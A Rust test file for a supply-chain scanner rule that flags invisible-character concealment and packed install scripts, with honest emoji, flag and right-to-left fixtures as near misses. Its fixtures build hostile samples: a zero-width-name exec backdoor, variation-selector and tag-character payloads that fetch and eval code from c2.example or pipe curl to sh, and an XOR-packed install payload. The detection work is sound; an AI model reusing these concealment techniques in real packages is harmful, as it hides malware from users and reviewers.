//! DSCA805 concealment by invisible characters and packed one-line install scripts:
//! zero-width characters inside names, GlassWorm's variation selectors and tag
//! characters carrying a payload, a payload packed into one enormous line an install
//! script runs. Each technique triggers; the honest look-alikes (emoji and flag
//! libraries, right-to-left translations, a minified bundle loaded from `main`) stay at
//! low or below. Every fixture is written out here with explicit escapes; the payloads
//! act against reserved names (`*.example`).

use super::{entry, installs, library};
use crate::common::Fixture;
use dsca_model::{Finding, Severity, Verdict, VerdictLevel};
use serde_json::json;

fn one(findings: Vec<Finding>) -> Finding {
    let [finding] = <[Finding; 1]>::try_from(findings).unwrap_or_else(|findings| {
        panic!("one DSCA805 finding expected: {findings:#?}");
    });
    finding
}

/// The DSCA805 severity, `None` without a finding.
fn severity(fixture: &Fixture) -> Option<Severity> {
    fixture
        .code_findings("DSCA805")
        .iter()
        .map(|f| f.severity)
        .max()
}

fn assert_at_most_low(fixture: &Fixture) {
    let findings = fixture.code_findings("DSCA805");
    assert!(
        findings.iter().all(|f| f.severity <= Severity::Low),
        "{findings:#?}"
    );
    let all = fixture.analyse_code().findings;
    assert_ne!(
        Verdict::from_findings(&all).level,
        VerdictLevel::Malicious,
        "{all:#?}"
    );
}

/// `text` hidden the GlassWorm way: each byte as a variation selector, 0–15 as
/// U+FE00–U+FE0F and 16–255 as U+E0100–U+E01EF.
fn variation_selectors(text: &str) -> String {
    text.bytes()
        .map(|b| {
            let code = if b < 16 {
                0xFE00 + u32::from(b)
            } else {
                0xE0100 + u32::from(b) - 16
            };
            char::from_u32(code).unwrap()
        })
        .collect()
}

/// `text` as tag characters (U+E0000 + the ASCII code).
fn tag_characters(text: &str) -> String {
    text.bytes()
        .map(|b| char::from_u32(0xE0000 + u32::from(b)).unwrap())
        .collect()
}

const GLASSWORM_DECODER: &str = "const s = (v) => [...v].map((c) => { const p = c.codePointAt(0); return p >= 0xE0100 ? p - 0xE0100 + 16 : p - 0xFE00; });\n";

// Zero-width characters inside names

/// `timeout` + U+200C and `host` + U+200D taken from the query and run.
const ZERO_WIDTH_BACKDOOR: &str = "const { exec } = require('child_process');\nmodule.exports = function status(req, res) {\n  const { timeout\u{200C}, host\u{200D} } = req.query;\n  const host = '127.0.0.1';\n  const timeout = Math.min(parseInt(timeout\u{200C}, 10) || 2000, 10000);\n  for (const cmd of ['ping -c 1 ' + host, host\u{200D}]) exec(cmd, { timeout });\n  res.end();\n};\n";

#[test]
fn zero_width_names_next_to_exec_in_the_entry_are_critical() {
    let finding = one(entry(ZERO_WIDTH_BACKDOOR).code_findings("DSCA805"));
    assert_eq!(finding.severity, Severity::Critical, "{finding:#?}");
    assert!(
        finding.message.contains("`timeout`") && finding.message.contains("U+200C"),
        "{}",
        finding.message
    );
    assert!(
        finding.message.contains("starts processes"),
        "{}",
        finding.message
    );
    assert!(
        finding
            .evidence
            .iter()
            .any(|e| e.detail.contains("`host`") && e.detail.contains("U+200D")),
        "{finding:#?}"
    );
}

#[test]
fn zero_width_names_next_to_exec_in_a_library_file_are_high() {
    assert_eq!(
        severity(&library(ZERO_WIDTH_BACKDOOR)),
        Some(Severity::High)
    );
}

#[test]
fn zero_width_names_without_eval_or_exec_are_medium() {
    let fixture = library(
        "function check(user) {\n  const admin\u{200D} = user.role === 'root';\n  const admin = false;\n  return admin\u{200D};\n}\nmodule.exports = check;\n",
    );
    assert_eq!(severity(&fixture), Some(Severity::Medium));
}

#[test]
fn a_zero_width_space_splitting_a_word_in_a_string_is_found() {
    let fixture = library(
        "module.exports = (cmd) => cmd === 'rm\u{200B}rf' ? null : require('child_process').execSync(cmd);\n",
    );
    let finding = one(fixture.code_findings("DSCA805"));
    assert!(finding.message.contains("U+200B"), "{}", finding.message);
}

// GlassWorm: variation selectors and tag characters carrying a payload

#[test]
fn variation_selectors_decoded_and_evaluated_from_the_entry_are_critical() {
    let payload = variation_selectors(
        "require('https').get('https://c2.example/next', (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => eval(b)); });",
    );
    let code = format!(
        "{GLASSWORM_DECODER}module.exports = (a) => a.sort();\neval(Buffer.from(s(`{payload}`)).toString('utf-8'));\n"
    );
    let finding = one(entry(&code).code_findings("DSCA805"));
    assert_eq!(finding.severity, Severity::Critical, "{finding:#?}");
    assert!(
        finding
            .message
            .contains(&format!("{} variation selectors", payload.chars().count()))
            && finding.message.contains("on line 3 carry hidden data")
            && finding.message.contains("evaluates code"),
        "{}",
        finding.message
    );
}

#[test]
fn a_thousand_variation_selectors_are_counted_with_a_separator() {
    let payload = variation_selectors(&"x".repeat(1_204));
    let code = format!("{GLASSWORM_DECODER}const p = `{payload}`;\nmodule.exports = s(p);\n");
    let finding = one(library(&code).code_findings("DSCA805"));
    assert_eq!(finding.severity, Severity::Medium);
    assert!(
        finding
            .message
            .contains("1,204 variation selectors (U+FE00–U+FE0F, U+E0100–U+E01EF) on line 2"),
        "{}",
        finding.message
    );
}

#[test]
fn tag_characters_run_with_new_function_at_install_are_critical() {
    let hidden = tag_characters(
        "require('child_process').execSync('curl -s https://flags-cdn.example/x | sh')",
    );
    let code = format!(
        "const REGISTRY = '\u{1F3F4}{hidden}\u{E007F}';\nconst tagText = (t) => [...t].map((c) => String.fromCodePoint(c.codePointAt(0) - 0xE0000)).join('');\nnew Function('require', tagText(REGISTRY).slice(1))(require);\n"
    );
    let finding = one(installs(&code).code_findings("DSCA805"));
    assert_eq!(finding.severity, Severity::Critical, "{finding:#?}");
    assert!(
        finding
            .message
            .contains("tag characters (U+E0000–U+E007F) on line 1")
            && finding.message.contains("runs at install time"),
        "{}",
        finding.message
    );
}

#[test]
fn tag_characters_without_eval_in_a_library_are_medium() {
    let code = format!(
        "module.exports = '{}';\n",
        tag_characters("a hidden note of some length")
    );
    assert_eq!(severity(&library(&code)), Some(Severity::Medium));
}

// Packed one-line payloads run at install time

/// One line of `size` bytes: an XOR'd array and a decoder.
fn packed(size: usize, tail: &str) -> String {
    let mut code = String::from("var _$k=[252,43,181],_$d=[138");
    while code.len() < size {
        code.push_str(",74,199,9,11,111");
    }
    code.push_str("];");
    code.push_str(tail);
    code
}

#[test]
fn a_packed_one_line_install_script_that_evaluates_is_critical() {
    let code = packed(
        150 * 1024,
        "(function(k,d){var s='';for(var i=0;i<d.length;i++)s+=String.fromCharCode(d[i]^k[i%k.length]);Function('require',s)(require)})(_$k,_$d);",
    );
    let finding = one(installs(&code).code_findings("DSCA805"));
    assert_eq!(finding.severity, Severity::Critical, "{finding:#?}");
    assert!(
        finding
            .message
            .starts_with("`install.js` runs a packed one-line payload of 150 KB at install time")
            && finding
                .message
                .ends_with("honest install scripts are small and readable"),
        "{}",
        finding.message
    );
}

#[test]
fn a_packed_one_line_install_script_is_high() {
    let code = packed(120 * 1024, "module.exports=_$d.length;");
    assert_eq!(severity(&installs(&code)), Some(Severity::High));
}

#[test]
fn a_packed_file_a_detached_spawn_starts_at_install_is_high() {
    let fixture = installs(
        "const { spawn } = require('child_process');\nspawn('node', ['lib/worker.js'], { detached: true, stdio: 'ignore' }).unref();\n",
    )
    .file(
        "lib/worker.js",
        packed(110 * 1024, "module.exports=_$d.length;").as_bytes(),
    );
    let findings = fixture.code_findings("DSCA805");
    let finding = one(findings);
    assert_eq!(finding.severity, Severity::High, "{finding:#?}");
    assert!(
        finding.message.contains("`lib/worker.js` runs a packed"),
        "{}",
        finding.message
    );
}

#[test]
fn a_small_readable_install_script_is_not_packed() {
    let mut code = String::new();
    for i in 0..2_000 {
        code.push_str(&format!(
            "const platform{i} = process.platform + '-' + process.arch;\n"
        ));
    }
    assert_eq!(severity(&installs(&code)), None);
}

// Near misses: honest packages that hold the same characters

#[test]
fn an_emoji_library_with_zwj_sequences_and_presentation_selectors_is_not_concealment() {
    let code = "'use strict';\nconst ZWJ = '\\u200d';\nconst VS16 = '\\ufe0f';\nconst emoji = {\n  family: '\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}\u{200D}\u{1F466}',\n  rainbow_flag: '\u{1F3F3}\u{FE0F}\u{200D}\u{1F308}',\n  heart_on_fire: '\u{2764}\u{FE0F}\u{200D}\u{1F525}',\n  eye_in_speech_bubble: '\u{1F441}\u{FE0F}\u{200D}\u{1F5E8}\u{FE0F}',\n  keycap_one: '1\u{FE0F}\u{20E3}', keycap_hash: '#\u{FE0F}\u{20E3}',\n  heart: '\u{2764}\u{FE0F}', text_heart: '\u{2764}\u{FE0E}',\n  technologist: '\u{1F9D1}\u{1F3FD}\u{200D}\u{1F4BB}',\n};\nconst all = Object.values(emoji).join('\u{FE0F}\u{FE0F}');\nfunction emojify(text) { return text.replace(/:([a-z_]+):/g, (m, name) => emoji[name] || m); }\nfunction strip(text) { return text.split(ZWJ).join('').split(VS16).join(''); }\nmodule.exports = { emoji, emojify, strip, all };\n";
    let fixture = entry(code);
    assert_at_most_low(&fixture);
    assert_eq!(severity(&fixture), None);
}

#[test]
fn subdivision_flags_and_their_tag_decoder_are_not_concealment() {
    let flag = |code: &str| format!("\u{1F3F4}{}\u{E007F}", tag_characters(code));
    let code = format!(
        "const FLAGS = {{ england: '{}', scotland: '{}', wales: '{}', texas: '{}', row: '{}{}{}' }};\nconst region = (f) => [...f].slice(1, -1).map((c) => String.fromCodePoint(c.codePointAt(0) - 0xE0000)).join('');\nmodule.exports = {{ FLAGS, region }};\n",
        flag("gbeng"),
        flag("gbsct"),
        flag("gbwls"),
        flag("ustx"),
        flag("gbeng"),
        flag("gbsct"),
        flag("gbwls"),
    );
    let fixture = entry(&code);
    assert_at_most_low(&fixture);
    assert_eq!(severity(&fixture), None);
}

#[test]
fn right_to_left_translations_are_not_concealment() {
    let code = "module.exports = {\n  ar: { greeting: '\u{200F}مرحبا بك\u{200F}', count: '\u{061C}عدد الملفات: {n}' },\n  he: { greeting: '\u{200F}שלום\u{200E} user' },\n  fa: { want: 'می\u{200C}خواهم', files: 'فایل\u{200C}های URL\u{200C}ها' },\n  hi: { name: 'क्\u{200D}ष', word: 'र्\u{200D}' },\n  th: { hello: 'สวัสดี\u{200B}ครับ' },\n};\n";
    let fixture = entry(code);
    assert_at_most_low(&fixture);
    assert_eq!(severity(&fixture), None);
}

#[test]
fn a_zero_width_space_in_a_comment_and_a_byte_order_mark_are_not_concealment() {
    let code = "\u{FEFF}// see https://docs.example/foo\u{200B}bar for why\n/*\n * wrap\u{200B}here\n */\nmodule.exports = require('child_process').execSync('git rev-parse HEAD');\n";
    assert_eq!(severity(&entry(code)), None);
}

#[test]
fn a_minified_bundle_loaded_from_main_is_not_packed() {
    let mut code = String::from(
        "/*! tiny-tooltip v1.8.0 | MIT */\n!function(t,e){\"object\"==typeof exports?module.exports=e():t.tip=e()}(this,function(){\"use strict\";",
    );
    let mut i = 0;
    while code.len() < 200 * 1024 {
        code.push_str(&format!(
            "function a{i}(t,e){{var n=document.createElement(\"div\");return n.className=\"tip-{i}\",n.style.top=e+\"px\",t.appendChild(n),n}}"
        ));
        i += 1;
    }
    code.push_str("return{a0:a0}});\n//# sourceMappingURL=tip.min.js.map\n");
    let fixture = Fixture::tarball(json!({"name": "tiny-tooltip", "version": "1.8.0",
        "main": "dist/tip.min.js"}))
    .file("dist/tip.min.js", code.as_bytes());
    assert_at_most_low(&fixture);
    assert_eq!(severity(&fixture), None);
}

#[test]
fn a_joiner_inside_a_string_table_renames_nothing() {
    // HTML entity decoders ship their trie as one string holding every code point,
    // joiners included, beside a template engine that compiles with `Function`.
    let code = "const trie = \"ao\u{200C}cs\u{200D}x\";\n\
                module.exports = (src) => Function('data', 'return ' + src) && trie;\n";
    assert_at_most_low(&entry(code));
}
